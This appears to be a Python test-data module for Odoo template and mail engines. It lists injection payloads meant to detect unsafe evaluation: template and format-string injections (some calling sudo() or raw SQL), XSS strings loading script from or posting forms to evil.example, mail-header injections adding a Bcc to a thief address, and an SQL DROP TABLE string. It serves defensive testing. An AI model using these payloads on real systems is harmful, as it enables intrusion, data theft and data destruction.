"""Texts that try to be more than text: names, references, lines and texts of levels.

What computes gives 5332114 (1234 x 4321): a mail that shows that number has executed
something. Data only, so that the tests of the engines can read it without Odoo.
"""

RESULT = "5332114"
PAYLOADS = (
    # templates: QWeb, inline templates, Jinja, Mako, Ruby, Freemarker, Velocity
    "{{ 1234*4321 }}",
    "{{ object.env.cr.execute('select 1234*4321') }}",
    "{{ object.company_id.sudo().name }}",
    "{{ ctx['x'] or 1234*4321 }}",
    "{% for x in (1,) %}{{ 1234*4321 }}{% endfor %}",
    "{# comment #}{{1234*4321}}",
    "${1234*4321}",
    "${object.env['res.users'].sudo().search([])}",
    "#{1234*4321}",
    "<%= 1234*4321 %>",
    "<?python print(1234*4321) ?>",
    "<t t-out='1234*4321'/>",
    "<t t-esc=\"object.env['res.users']\"/>",
    "<t t-raw='1234*4321'/>",
    "<t t-call='web.login'/>",
    "<span t-field='object.company_id.name'/>",
    "<p t-att-onclick='1234*4321'>x</p>",
    # formats of Python
    "%(level)s",
    "{0}",
    "{customer.__class__.__mro__}",
    "{customer!r}",
    "{customer:>10}",
    "{amount_total}{iban}",
    "{{customer}}",
    # pages
    "<script>alert(1234*4321)</script>",
    "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src='data:text/html,x'></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    '"><script>alert(1)</script>',
    "</td></tr></table><form action=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # headers of a mail
    "x\r\nBcc: thief@evil.example",
    "x\nSubject: y",
    "x\u2028Bcc: thief@evil.example",
    "thief@evil.example, x",
    # formulas of a spreadsheet, statements of a database
    "=1234*4321",
    "'; DROP TABLE res_partner; --",
)
